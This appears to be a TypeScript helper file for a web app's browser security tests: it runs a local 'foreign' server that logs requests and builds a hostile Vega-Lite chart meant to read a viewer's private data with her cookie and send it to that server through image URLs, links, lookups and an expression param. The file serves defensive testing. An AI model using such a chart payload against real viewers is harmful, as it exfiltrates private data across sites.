import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import Database from 'better-sqlite3';
import type { Request } from 'playwright-core';

/** Helpers of the browser test's security cases (web/test/e2e.test.ts): a foreign server, hostile charts. */

export interface ForeignServer {
  origin: string;
  /** Every request it received (method and URL): a chart that leaks shows up here. */
  hits: string[];
  close: () => Promise<void>;
}

/** Another site, on 127.0.0.1 and a free port, counting what reaches it (it answers every request). */
export async function startForeignServer(): Promise<ForeignServer> {
  const hits: string[] = [];
  const server = createServer((request, response) => {
    hits.push(`${request.method} ${request.url}`);
    response.writeHead(200, { 'access-control-allow-origin': '*', 'content-type': 'text/plain' });
    response.end('name\nleaked');
  });
  await new Promise<void>((listening) => server.listen(0, '127.0.0.1', listening));
  const { port } = server.address() as AddressInfo;
  return {
    origin: `http://127.0.0.1:${port}`,
    hits,
    close: () => new Promise<void>((closed) => server.close(() => closed())),
  };
}

/**
 * The review's bait: read the viewer's private artifact and run with her cookie (same-origin URL data),
 * then send what was read to another site (a lookup whose URL is computed from the data, an image mark
 * whose URL is a data field, links), plus URL data from the other site directly.
 */
export function hostileChart(foreignOrigin: string, privateUdatId: string, privateRunId: string) {
  return {
    $schema: 'https://vega.github.io/schema/vega-lite/v5.json',
    data: { url: `/udats/${privateUdatId}/csv`, format: { type: 'csv' } },
    transform: [
      { calculate: `'${foreignOrigin}/leak?' + datum.symbol`, as: 'leak' },
      {
        lookup: 'symbol',
        from: { data: { url: `/history/${privateRunId}/csv` }, key: 'variable', fields: ['n'] },
      },
    ],
    layer: [
      { mark: 'image', encoding: { url: { field: 'leak' }, x: { field: 'symbol' } } },
      { mark: { type: 'text', href: { expr: 'datum.leak' } }, encoding: { text: { field: 'symbol' } } },
      {
        data: { url: `${foreignOrigin}/data.csv`, format: { type: 'csv' } },
        mark: 'point',
        encoding: { href: { field: 'leak' } },
      },
    ],
    params: [{ name: 'steal', expr: `'${foreignOrigin}/p?' + data('data_0')` }],
    usermeta: { embedOptions: { loader: { baseURL: foreignOrigin }, actions: true } },
  };
}

/**
 * Replaces a stored JSON column in the workspace's SQLite store, as data saved before the write check
 * would be: the web must not draw it either.
 */
export function storeBeforeTheCheck(
  dataDir: string,
  row: { table: 'udats' | 'history_entries'; column: 'payload_json' | 'result_json'; id: string },
  value: unknown,
): void {
  const database = new Database(join(dataDir, 'workspace.sqlite'));
  try {
    const changed = database
      .prepare(`UPDATE ${row.table} SET ${row.column} = ? WHERE id = ?`)
      .run(JSON.stringify(value), row.id).changes;
    if (changed !== 1) throw new Error(`No ${row.table} row ${row.id} to change.`);
  } finally {
    database.close();
  }
}

/**
 * Requests a page may make for itself: the document, Next.js's assets, its icon, and the router's RSC
 * requests (Next.js prefetches the pages its links point to; they carry an `rsc` header).
 */
export function isOwnAsset(request: Request, webOrigin: string, pagePath: string): boolean {
  const url = new URL(request.url());
  if (url.origin !== webOrigin) return false;
  return (
    url.pathname === pagePath ||
    url.pathname.startsWith('/_next/') ||
    url.pathname === '/icon.svg' ||
    url.pathname === '/favicon.ico' ||
    request.headers()['rsc'] === '1'
  );
}
